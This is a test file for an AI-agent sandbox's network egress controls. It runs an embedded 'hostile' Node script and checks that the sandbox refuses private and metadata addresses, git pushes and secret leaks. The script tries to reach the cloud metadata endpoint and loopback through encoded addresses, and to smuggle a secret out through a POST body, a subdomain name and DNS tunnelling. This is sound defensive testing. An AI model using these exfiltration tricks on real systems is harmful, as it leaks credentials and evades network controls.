import { chown, mkdir, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nearSettings, type Scene, scene } from '../parity/scene.ts';
import type { Finished } from '../rig/bottle-cli.ts';

const TOKEN = 'tok-8f2b6a41d9c34e0fb7a25c61e3d0';
const FORWARDED = 'forwarded-5c1e9f7a3b2d4860a9c7';

const BOTTLE = `---
env: {FORWARDED: "\${FORWARDED}"}
supervise: false
egress:
  mode: observe
  log: 0
  routes:
    - host: declared.test
      ports: [80]
      auth: {scheme: "header:x-token", token_ref: TOKEN}
      matches: [{paths: [{type: prefix, value: /ok}]}]
---
`;

/** What a hostile program in the bottle tries, each answer under its name. */
const HOSTILE = `
const dns = require('node:dns').promises, http = require('node:http'), dgram = require('node:dgram');
const secret = process.env.FORWARDED;
const ask = (url, options = {}, body) => new Promise((done) => {
  const { host, pathname, search } = new URL(url);
  const request = http.request({ host: '127.0.0.1', port: 9099, path: url, headers: { host }, timeout: 8000, ...options }, (answer) => {
    let text = '';
    answer.on('data', (part) => { text += part; }).on('end', () => done(answer.headers['x-bot-bottle-block'] ?? text));
  });
  request.on('error', (error) => done(error.code)).on('timeout', () => done('timeout'));
  request.end(body);
});
const udp = (server, query) => new Promise((done) => {
  const socket = dgram.createSocket('udp4');
  socket.on('message', (reply) => { done('answers ' + reply.readUInt16BE(6)); socket.close(); }).on('error', (error) => done(error.code));
  socket.send(query, 53, server, (error) => { if (error) done(error.code); });
  setTimeout(() => done('silence'), 3000).unref();
});
const question = (name, type) => Buffer.concat([Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').flatMap((label) => [Buffer.from([label.length]), Buffer.from(label)]), Buffer.from([0, 0, type, 0, 1])]);
(async () => {
  const told = {
    undeclared: await ask('http://other.test/a/b'),
    undeclaredPath: await ask('http://declared.test/secret-settings'),
    declaredPath: await ask('http://declared.test/ok/x'),
    metadata: await ask('http://169.254.169.254/latest/meta-data/'),
    loopback: await ask('http://127.0.0.1:PORT/'),
    localhost: await ask('http://localhost:PORT/'),
    mapped: await ask('http://[::ffff:127.0.0.1]:PORT/'),
    decimal: await ask('http://2130706433:PORT/'),
    push: await ask('http://other.test/r.git/git-receive-pack', { method: 'POST' }),
    secretBody: await ask('http://other.test/', { method: 'POST' }, Buffer.from('x' + secret).toString('base64')),
    secretName: await ask('http://' + secret + '.other.test/'),
    name: await dns.lookup('any.name.example').then(({ address }) => address, (error) => error.code),
    bareName: await dns.lookup('database').then(({ address }) => address, (error) => error.code),
    text: await udp('127.0.0.1', question(Buffer.from(secret).toString('hex') + '.tunnel.example', 16)),
    outside: await udp('8.8.8.8', question('tunnel.example', 1)),
  };
  process.stdout.write(JSON.stringify(told), () => process.exit(0));
})();
`;

// Once on each backend: who starts it makes no difference to a policy.
const backends = nearSettings.filter(
  ({ backend }, at) => nearSettings.findIndex((one) => one.backend === backend) === at,
);

describe.each(backends)('observe mode on $backend', ({ backend, user }) => {
  let at: Scene;
  let ran: Finished;
  let told: Readonly<Record<string, string>>;
  const received: IncomingMessage[] = [];
  const page = createServer((request, response) => {
    received.push(request);
    response.end('the page');
  });

  beforeAll(async () => {
    at = await scene(user, backend);
    await mkdir(`${at.home}/.bot-bottle/bottles`, { recursive: true });
    await writeFile(`${at.home}/.bot-bottle/bottles/learn.md`, BOTTLE);
    if (user !== undefined)
      for (const part of ['', '/bottles']) await chown(`${at.home}/.bot-bottle${part}`, user.uid, user.gid);
    await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
    const { port } = page.address() as AddressInfo;
    const script = HOSTILE.replaceAll('PORT', String(port));
    const resolve = ['declared.test', 'other.test'].flatMap((host) => [
      '--resolve',
      `${host}:80:127.0.0.1:${port}`,
    ]);
    const words = ['--workspace', 'none', '--bottle', 'learn', ...resolve, '--', 'node', '-e', script];
    ran = await at.cli(['--quiet', 'run', ...words], { env: { TOKEN, FORWARDED } });
    told = JSON.parse(ran.stdout) as Record<string, string>;
  });
  afterAll(async () => {
    page.close();
    await at[Symbol.asyncDispose]();
  });

  const headersOf = (url: string) => received.find((request) => request.url === url)?.headers;

  it('is said loudly, also to a person who wants to hear little', () => {
    expect(ran.stderr).toMatch(/WARNING: egress\.mode is observe: the agent reaches EVERY public host/);
  });

  it('lets out what no route declares, and injects nothing into it', () => {
    expect(told).toMatchObject({
      undeclared: 'the page',
      undeclaredPath: 'the page',
      declaredPath: 'the page',
    });
    expect(headersOf('/ok/x')).toMatchObject({ 'x-token': TOKEN });
    expect(headersOf('/secret-settings')).not.toHaveProperty('x-token');
    expect(headersOf('/a/b')).not.toHaveProperty('x-token');
  });

  it('opens no address that is not public', () => {
    const refused = 'private_address';
    expect(told).toMatchObject({ metadata: refused, loopback: refused, localhost: refused, mapped: refused });
    // Refused as no canonical host, or as the address that it means.
    expect(told.decimal).toMatch(/^(?:private_address|bad_request)$/);
  });

  it('still looks for secrets, also in a name before it is looked up, and refuses pushes', () => {
    expect(told).toMatchObject({
      secretBody: 'dlp_outbound',
      secretName: 'dlp_outbound',
      push: 'git_push_blocked',
    });
  });

  it('opens no way through DNS: names are answered here, and nothing else is', () => {
    expect(told.name).toMatch(/^127\.66\./);
    expect(told).toMatchObject({ bareName: 'ENOTFOUND', text: 'answers 0' });
    expect(told.outside).toMatch(/^E/);
  });

  it('is written down at every level, and kept for `egress suggest`', async () => {
    const slug = /egress suggest (\S+)/.exec(ran.stderr)?.[1] ?? '';
    const { stdout } = await at.cli(['egress', 'suggest', slug, '--manifest', '--json']);
    expect(JSON.parse(stdout)).toEqual({
      egress: {
        routes: [
          {
            host: 'declared.test',
            ports: [80],
            matches: [
              { paths: [{ type: 'prefix', value: '/ok' }] },
              { paths: [{ type: 'prefix', value: '/secret-settings' }], methods: ['GET'] },
            ],
          },
          {
            host: 'other.test',
            ports: [80],
            matches: [{ paths: [{ type: 'prefix', value: '/a/b' }], methods: ['GET'] }],
          },
        ],
      },
    });
  });
});
